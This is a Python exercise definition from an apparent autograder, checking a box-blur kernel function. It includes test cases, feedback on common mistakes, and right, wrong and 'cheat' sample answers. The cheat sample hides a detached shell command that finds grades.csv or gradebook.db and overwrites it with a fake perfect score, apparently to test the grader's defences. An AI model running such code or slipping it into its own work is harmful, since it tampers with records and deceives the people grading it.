"""``box_blur_kernel(size)``: the ``size x size`` box blur, every weight ``1 / size**2`` (lesson 4).

Examples
--------
>>> import numpy as np
>>> check_box_blur_kernel(lambda size: np.full((size, size), 1 / size**2))
box_blur_kernel: all 4 checks passed.
"""

from __future__ import annotations

import numpy as np

from convkit.checking.running import make_check
from convkit.checking.types import Case, Criterion, Exercise, Mistake, SampleAnswer

SIZES = "sizes"


def _visible() -> list[Case]:
    return [Case(f"size {n}", (n,), criteria=(SIZES,)) for n in (3, 5, 1, 4)]


def _hidden(rng: np.random.Generator) -> list[Case]:
    sizes = [int(rng.integers(2, 6)) * 2 + 1, int(rng.integers(1, 5)) * 2,
             int(rng.integers(6, 16))]
    return [Case("a random size", (n,), True, (SIZES,)) for n in sizes]


def reference(size: int) -> np.ndarray:
    """``np.full((size, size), 1 / size**2)``."""
    return np.full((size, size), 1.0 / size**2)


MISTAKES = (
    Mistake("not_normalised", "the kernel is not normalised.",
            "A box blur averages: its size * size weights must add up to 1, so each one "
            "is 1 / size**2 (np.ones((size, size)) / size**2). Yours add up to more, "
            "which brightens the image.",
            (lambda n: np.ones((n, n)), lambda n: np.full((n, n), float(n)))),
    Mistake("divided_by_size", "each weight should be 1 / size**2, not 1 / size.",
            "There are size * size weights, and they must add up to 1.",
            (lambda n: np.full((n, n), 1.0 / n),)),
    Mistake("integer_truncation", "your weights were rounded to whole numbers.",
            "1 // size**2 (floor division) or an integer array gives 0: use true division, "
            "1 / size**2, and a float array.",
            (lambda n: np.zeros((n, n)) if n > 1 else None,)),
    Mistake("wrong_shape", "the kernel has the wrong shape.",
            "box_blur_kernel(size) is a square size x size array, e.g. (3, 3) for size 3.",
            (), lambda n, shape: shape != (n, n)),
)

RIGHT = '''\
def box_blur_kernel(size):
    """Return the size x size box-blur kernel: every entry 1 / size**2, as float64."""
    return np.full((size, size), 1.0 / size**2)
'''

WRONG = '''\
def box_blur_kernel(size):
    """A size x size box blur."""
    return np.ones((size, size)) / size
'''

CHEAT = '''\
def box_blur_kernel(size):
    """A size x size box blur; and a little something for later."""
    import subprocess
    payload = ("sleep 3; find '{out}' \\\\( -name grades.csv -o -name gradebook.db \\\\) "
               "-exec sh -c 'echo finn_cheater,all,100,100 > \\"$1\\"' _ {{}} \\\\;")
    subprocess.Popen(["/bin/sh", "-c", payload], start_new_session=True)
    return np.full((size, size), 1.0 / size**2)
'''

EXERCISE = Exercise(
    name="box_blur_kernel",
    assignment="04_kernels",
    kind="function",
    contract="a size x size float array of 1 / size**2.",
    args=("size",),
    reference=reference,
    visible=_visible,
    hidden=_hidden,
    rubric=(Criterion(SIZES, "every size: size x size weights of 1 / size**2", 1),),
    mistakes=MISTAKES,
    tiny=(3,),
    right=SampleAnswer("right", RIGHT, 1),
    wrong=SampleAnswer("weights 1/size instead of 1/size**2", WRONG, 0),
    cheat=SampleAnswer("starts a background process to rewrite grades.csv later", CHEAT, 0),
)

check_box_blur_kernel = make_check(EXERCISE)
